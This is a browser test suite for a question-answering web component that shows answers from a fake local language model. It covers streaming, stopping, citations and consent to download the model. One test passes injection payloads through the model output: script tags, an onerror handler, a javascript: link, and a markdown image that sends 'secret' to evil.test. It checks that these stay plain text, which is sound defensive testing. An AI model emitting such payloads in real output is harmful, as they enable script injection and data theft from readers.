import { beforeEach, describe, expect, it } from 'vitest';
import { useFakeEngine, type FakePlan } from './fake-engine.ts';
import { shows, until, useStage, type Reader } from './harness.ts';
import { GARDEN, pageOf } from './site.ts';

const stage = useStage();

beforeEach(() => stage.site.page('/garden.html', pageOf({ body: GARDEN })));

const QUESTION = 'When is the gate locked?';

async function visit(plan: FakePlan): Promise<Reader> {
  const reader = await stage.visit('/garden.html');
  await reader.page.evaluate(useFakeEngine, plan);
  return reader;
}

const generated = (reader: Reader) => reader.page.locator('ask-page .generated');

/** What the page asked of the engine, in order. */
const asked = (reader: Reader) =>
  reader.page.evaluate(() => (globalThis as unknown as { fakeCalls: string[] }).fakeCalls);

describe('a fake engine that is ready', () => {
  it('writes its answer above the quote, named as its own', async () => {
    const reader = await visit({ pieces: ['It is locked ', 'at **nine** [1].'] });
    await reader.ask(QUESTION);
    await shows(generated(reader), 'It is locked at nine. 1');
    await shows(generated(reader), 'Written by Fake 1B (models.test).');
    const order = await reader.answer.evaluateAll((all: Element[]) =>
      all.map((each) => each.getAttribute('class')),
    );
    expect(order).toEqual(['generated', 'quotes']);
    expect(await generated(reader).locator('strong').innerText()).toBe('nine');
    const cite = generated(reader).locator('[part=citation]');
    expect(await cite.getAttribute('href')).toContain('#gate:~:text=');
    const answers = await reader.events('ask-answer');
    expect(answers.map(({ kind }) => kind)).toEqual(['extractive', 'generated']);
    expect(await asked(reader)).toContain('load');
    // An engine of the owner's own may be a server: the reader is told where it is.
    await shows(reader.dialog, 'Answers are written by models.test');
  });

  it('writes it again when asked to', async () => {
    const reader = await visit({ pieces: ['Locked at nine [1].'] });
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Write it again' }).click();
    await reader.told('ask-done', 2);
    await shows(generated(reader), 'Locked at nine');
    const calls = await asked(reader);
    expect(calls.filter((call) => call === 'generate').length).toBeGreaterThanOrEqual(2);
  });

  it('shows how much of its request it has read, until it writes', async () => {
    const reader = await visit({ pieces: ['At nine [1].'], reads: 0.4 });
    await reader.type(QUESTION);
    await reader.page.keyboard.press('Enter');
    const bar = reader.page.locator('ask-page progress');
    await expect.poll(() => bar.evaluate((each: HTMLProgressElement) => each.value)).toBe(0.4);
    expect(await bar.getAttribute('aria-label')).toContain('Fake 1B');
    await shows(reader.status, 'Fake 1B');
    await reader.page.evaluate(() => (globalThis as unknown as { fakeEnd(): void }).fakeEnd());
    await shows(generated(reader), 'At nine');
    // Another bar may tell of the page, which is read on.
    const named = reader.page.locator('ask-page progress[aria-label*="Fake 1B"]');
    expect(await named.count()).toBe(0);
  });

  it('loses citations that name no passage', async () => {
    const reader = await visit({ pieces: ['The gate is locked at nine [1] [7] [12].'] });
    await reader.ask(QUESTION);
    await shows(generated(reader), /The gate is locked at nine\. 1 Written/);
    expect(await generated(reader).locator('[part=citation]').count()).toBe(1);
  });

  it('keeps what is there when the reader stops it', async () => {
    const reader = await visit({ pieces: ['It is locked', ' at nine'], thenWaits: true });
    await reader.type(QUESTION);
    await reader.page.keyboard.press('Enter');
    await shows(generated(reader), 'It is locked at nine');
    await shows(reader.status, 'Fake 1B is writing');
    await reader.page.getByRole('button', { name: 'Stop' }).click();
    await reader.told('ask-done');
    await shows(generated(reader), /It is locked at nine.*Stopped\./);
    await shows(reader.answer.last(), 'The gate is locked at nine in the evening');
    expect(await asked(reader)).toContain('freed');
  });

  it('cannot write into the answer of the next question', async () => {
    const reader = await visit({ pieces: ['one '], thenWaits: true, deaf: true });
    await reader.type(QUESTION);
    await reader.page.keyboard.press('Enter');
    await shows(generated(reader), 'one');
    await reader.page.evaluate(() => {
      (globalThis as unknown as { fakeNext(pieces: string[]): void }).fakeNext(['two ']);
      const root = document.querySelector('ask-page')?.shadowRoot;
      if (!root) return;
      new MutationObserver(() => {
        if (root.textContent.includes('late')) document.body.dataset.leaked = 'yes';
      }).observe(root, { childList: true, subtree: true, characterData: true });
    });
    await reader.ask('Where do kitchen scraps go?');
    await shows(generated(reader), 'two');
    expect(await generated(reader).innerText()).not.toContain('one');
    expect(await reader.page.evaluate(() => document.body.dataset.leaked)).toBeUndefined();
    const answers = await reader.events('ask-answer');
    expect(answers.map(({ kind, text }) => [kind, text?.slice(0, 3)])).toEqual([
      ['extractive', expect.anything()],
      ['extractive', expect.anything()],
      ['generated', 'two'],
    ]);
  });

  it('that fails leaves the quote, with one line', async () => {
    const reader = await visit({ pieces: ['Half an ans'], thenThrows: 'the device is gone' });
    await reader.ask(QUESTION);
    await shows(reader.dialog, 'The language model could not answer: the device is gone');
    await shows(reader.answer, 'The gate is locked at nine in the evening');
    expect(await generated(reader).count()).toBe(0);
    expect(await reader.alert.count()).toBe(0);
    expect((await reader.told('ask-done')).error).toBe('the device is gone');
  });

  it('that cannot even count tokens leaves the quote', async () => {
    const reader = await visit({ pieces: ['At nine.'], countFails: true });
    await reader.ask(QUESTION);
    await shows(reader.answer.last(), 'The gate is locked at nine in the evening');
    expect(await reader.alert.count()).toBe(0);
  });

  it('is not asked where nothing was found', async () => {
    const reader = await visit({ pieces: ['Invented.'] });
    await reader.ask('Which quantum chromodynamics lattice is simulated?');
    await shows(reader.answer, 'could not find an answer');
    expect(await asked(reader)).not.toContain('generate');
  });

  it.each([
    ['an element', 'Look: <img src=x onerror="document.title=1"> there', '<img src=x'],
    [
      'a block of HTML',
      '<div onclick="x()">\n<script>document.title=1</script>\n</div>',
      '<script>',
    ],
    ['a link to a script', 'See [this](javascript:alert(1)) now', 'this (javascript:alert(1))'],
    [
      'a remote image',
      'See ![x](https://evil.test/?q=secret) now',
      'x (https://evil.test/?q=secret)',
    ],
    ['a table', '| a | b |\n| - | - |\n| <b>1</b> | 2 |', '<b>1</b>'],
  ])('cannot make %s: it stays text', async (_, text, shown) => {
    const known = 'The gate is locked at nine in the evening. Its key hangs in the shed.';
    const reader = await visit({ pieces: [known, '\n\n', text] });
    await reader.ask(QUESTION);
    await shows(generated(reader), shown);
    const made = generated(reader).locator('img, script, div, b, a:not([part=citation])');
    expect(await made.count()).toBe(0);
    expect(await reader.page.title()).toBe('Garden');
    expect(reader.requests.filter((url) => !url.startsWith(stage.site.url))).toEqual([]);
  });
});

describe('a fake engine whose reply is no language', () => {
  it('has its text withdrawn, and the quote stands', async () => {
    const pieces = Array.from({ length: 30 }, () => 'The gate is what it is. ');
    const reader = await visit({ pieces });
    await reader.ask(QUESTION);
    await shows(reader.dialog, 'It wrote the same again and again');
    expect(await generated(reader).count()).toBe(0);
    await shows(reader.answer, 'The gate is locked at nine in the evening');
    expect(await asked(reader)).toContain('freed');
  });
});

describe('a fake engine that must be downloaded', () => {
  const offered: FakePlan = { availability: 'download', pieces: ['At nine [1].'] };
  const offer = (reader: Reader) => reader.page.locator('ask-page [part=engine]');

  it('is offered with size, origin and licence; nothing is loaded before the yes', async () => {
    const reader = await visit(offered);
    await reader.ask(QUESTION);
    await shows(offer(reader), 'Fake 1B, 879 MB once from models.test');
    await shows(offer(reader), 'Licence: Fake-1.0');
    await shows(offer(reader), 'kept for this site only');
    await shows(offer(reader), /The browser lets this site keep [\d.]+ [MG]B more/);
    const licence = offer(reader).getByRole('link', { name: 'Fake-1.0' });
    expect(await licence.getAttribute('href')).toBe('https://models.test/licence');
    expect(await asked(reader)).not.toContain('load');
    await reader.page.getByRole('button', { name: 'Download 879 MB' }).click();
    await shows(generated(reader), 'At nine 1.');
    expect(await offer(reader).count()).toBe(0);
  });

  it('is not offered again after "Not now"', async () => {
    const reader = await visit(offered);
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Not now' }).click();
    await until(
      () => offer(reader).count(),
      (count) => count === 0,
    );
    await reader.ask('Where do kitchen scraps go?');
    await shows(reader.answer, 'compost heap');
    expect(await offer(reader).count()).toBe(0);
    expect(await asked(reader)).not.toContain('load');
  });

  it('says why it could not be loaded, and can be tried again', async () => {
    const reader = await visit({ ...offered, loadFails: 1 });
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Download 879 MB' }).click();
    await shows(offer(reader), 'models.test did not answer');
    await offer(reader).getByRole('button', { name: 'Try again' }).click();
    await shows(generated(reader), 'At nine 1.');
  });

  it('tells bytes, rate and time left; paused, it goes on', async () => {
    const reader = await visit({ ...offered, loadWaits: true });
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Download 879 MB' }).click();
    await shows(offer(reader), 'Loading Fake 1B');
    await shows(offer(reader), '440 of 879 MB, 4.0 MB/s, 2 minutes left');
    const bar = reader.page.getByRole('progressbar', { name: 'Loading Fake 1B' });
    expect(await bar.evaluate((element) => (element as HTMLProgressElement).value)).toBe(0.5);
    await offer(reader).getByRole('button', { name: 'Pause' }).click();
    await shows(offer(reader), 'Fake 1B is paused');
    await shows(offer(reader), 'What has arrived is kept.');
    await offer(reader).getByRole('button', { name: 'Go on' }).click();
    await shows(offer(reader), 'Loading Fake 1B');
  });

  it('says so where nothing arrives', async () => {
    const reader = await visit({ ...offered, loadWaits: true, isStalled: true });
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Download 879 MB' }).click();
    await shows(offer(reader), 'Nothing arrives. Trying again.');
  });

  it('"Never" holds on the next visit, and can be taken back', async () => {
    const reader = await visit(offered);
    await reader.ask(QUESTION);
    await reader.page.getByRole('button', { name: 'Never on this site' }).click();
    const again = await stage.visit('/garden.html', { context: reader.context });
    await again.page.evaluate(useFakeEngine, offered);
    await again.ask(QUESTION);
    await shows(again.answer, 'locked at nine');
    expect(await offer(again).count()).toBe(0);
    await again.page.getByRole('button', { name: 'Language model' }).click();
    const models = again.page.locator('ask-page [part=models]');
    await shows(models, 'You wanted no language model on this site.');
    await shows(models, 'No language model is stored for this site.');
    await models.getByRole('button', { name: 'Show the offer' }).click();
    await models.getByRole('button', { name: 'Download 879 MB' }).click();
    await shows(generated(again), 'At nine 1.');
    await shows(models, 'Fake 1B writes answers here.');
  });

  it('that cannot run here is not offered', async () => {
    const reader = await visit({ ...offered, availability: 'unavailable' });
    await reader.ask(QUESTION);
    await shows(reader.answer, 'locked at nine');
    expect(await offer(reader).count()).toBe(0);
  });
});
